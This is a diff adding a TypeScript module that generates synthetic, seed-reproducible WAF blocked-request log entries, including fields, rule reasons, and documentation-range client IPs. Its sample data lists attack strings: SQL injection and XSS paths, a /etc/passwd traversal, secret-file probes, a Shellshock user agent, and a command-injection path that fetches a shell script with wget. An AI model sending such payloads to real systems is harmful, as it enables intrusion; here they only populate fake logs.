@@ -1,0 +1,127 @@
+// Blocked requests as a WAF would log them, made up from a seed: the same seed, day and row give the same entry, so that
+// nothing is stored and any page can be made at any time. Some rows are exact copies of the row before, as in real logs.
+import { hashNumbers } from "./seeded-hash.ts";
+
+export const dayMs = 86_400_000;
+
+/** One row, with the names of the API. */
+export interface LogEntry {
+  readonly timestamp: string;
+  readonly client_ip: string;
+  readonly http_method: string;
+  readonly request_path: string;
+  readonly http_status: number;
+  readonly response_size: number;
+  readonly referrer: string | null;
+  readonly user_agent: string;
+  readonly block_reason: string;
+  readonly country: string;
+  readonly cache_hit: boolean;
+}
+
+/** Where the rows of one day come from. `day` counts days (UTC) since 1970. */
+export interface LogDay {
+  readonly seed: number;
+  readonly day: number;
+  readonly rowCount: number;
+  /** The longest that a row stays invisible after its timestamp. */
+  readonly lateMsMax: number;
+}
+
+const copiesPerThousand = 20;
+
+const countries = ["CN", "US", "RU", "BR", "IN", "NL", "DE", "VN", "ID", "FR", "UA", "SG", "TR", "GB", "KR"];
+const reasons = [
+  "SQL Injection 942100",
+  "SQL Injection 942190",
+  "XSS Attack 941100",
+  "Path Traversal 930110",
+  "Remote Command Execution 932160",
+  "PHP Injection 933150",
+  "Scanner Detected 913100",
+  "Protocol Violation 920350",
+  "Bad Bot 1002",
+  "Rate Limit 1015",
+  "IP Blocklist 1001",
+  "NONE",
+];
+const paths = [
+  "/wp-login.php",
+  "/xmlrpc.php",
+  "/.env",
+  "/.git/config",
+  "/search?q=%27%20OR%201%3D1--",
+  "/index.php?id=1%20UNION%20SELECT%20NULL",
+  "/../../etc/passwd",
+  "/api/v1/users?filter=<script>alert(1)</script>",
+  "/cgi-bin/;wget%20http://198.51.100.7/x.sh",
+  "/login",
+  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+  "/Überblick/naïve?emoji=😀",
+];
+const userAgents = [
+  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
+  "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
+  "curl/8.5.0",
+  "python-requests/2.32.3",
+  "Go-http-client/1.1",
+  "sqlmap/1.8#stable (https://sqlmap.org)",
+  "Mozilla/5.0 zgrab/0.x",
+  '() { :; }; echo "x"\\',
+  "",
+];
+const referrers = [null, null, null, "https://www.google.com/", "https://shop.example/cart", "-"];
+const methods = ["GET", "GET", "GET", "POST", "POST", "HEAD", "PUT"];
+
+/** The row of that number, from 0 to `rowCount - 1`; their timestamps never fall. */
+export function makeLogEntry(logDay: LogDay, row: number): LogEntry {
+  const original = originalOf(logDay, row);
+  const draw = (salt: number) => hashNumbers(logDay.seed, logDay.day, original, salt);
+  const reason = pick(reasons, draw(1));
+  return {
+    timestamp: new Date(timestampMsOf(logDay, original)).toISOString(),
+    client_ip: clientIp(draw(2)),
+    http_method: pick(methods, draw(3)),
+    request_path: pick(paths, draw(4)),
+    http_status: reason === "Rate Limit 1015" ? 429 : 403,
+    response_size: 150 + (draw(5) % 5000),
+    referrer: pick(referrers, draw(6)),
+    user_agent: pick(userAgents, draw(7)),
+    block_reason: reason,
+    country: pick(countries, draw(8)),
+    cache_hit: draw(9) % 50 === 0,
+  };
+}
+
+/** When the row can first be read, in milliseconds since 1970. Copies of one row need not become visible together. */
+export function visibleAtMs(logDay: LogDay, row: number): number {
+  const late = logDay.lateMsMax === 0 ? 0 : hashNumbers(logDay.seed, logDay.day, row, 10) % (logDay.lateMsMax + 1);
+  return timestampMsOf(logDay, originalOf(logDay, row)) + late;
+}
+
+/** A copy looks back to the first row that is none; row 0 never is a copy, so the walk ends. */
+function originalOf(logDay: LogDay, row: number): number {
+  let original = row;
+  while (original > 0 && hashNumbers(logDay.seed, logDay.day, original, 11) % 1000 < copiesPerThousand) original -= 1;
+  return original;
+}
+
+function timestampMsOf(logDay: LogDay, row: number): number {
+  const spread = hashNumbers(logDay.seed, logDay.day, row, 12) / 2 ** 32;
+  return logDay.day * dayMs + Math.floor(((row + spread) / logDay.rowCount) * dayMs);
+}
+
+/** Only from the ranges that are set aside for documentation. */
+function clientIp(drawn: number): string {
+  const kind = drawn % 10;
+  const host = (drawn >>> 8) % 254;
+  if (kind === 0) return `2001:db8:${((drawn >>> 16) % 65_536).toString(16)}::${(host + 1).toString(16)}`;
+  const network = ["192.0.2", "198.51.100", "203.0.113"][kind % 3] ?? "192.0.2";
+  return `${network}.${host + 1}`;
+}
+
+function pick<T>(choices: readonly T[], drawn: number): T {
+  const choice = choices[drawn % choices.length];
+  if (choice === undefined) throw new TypeError("an empty list of choices");
+  return choice;
+}
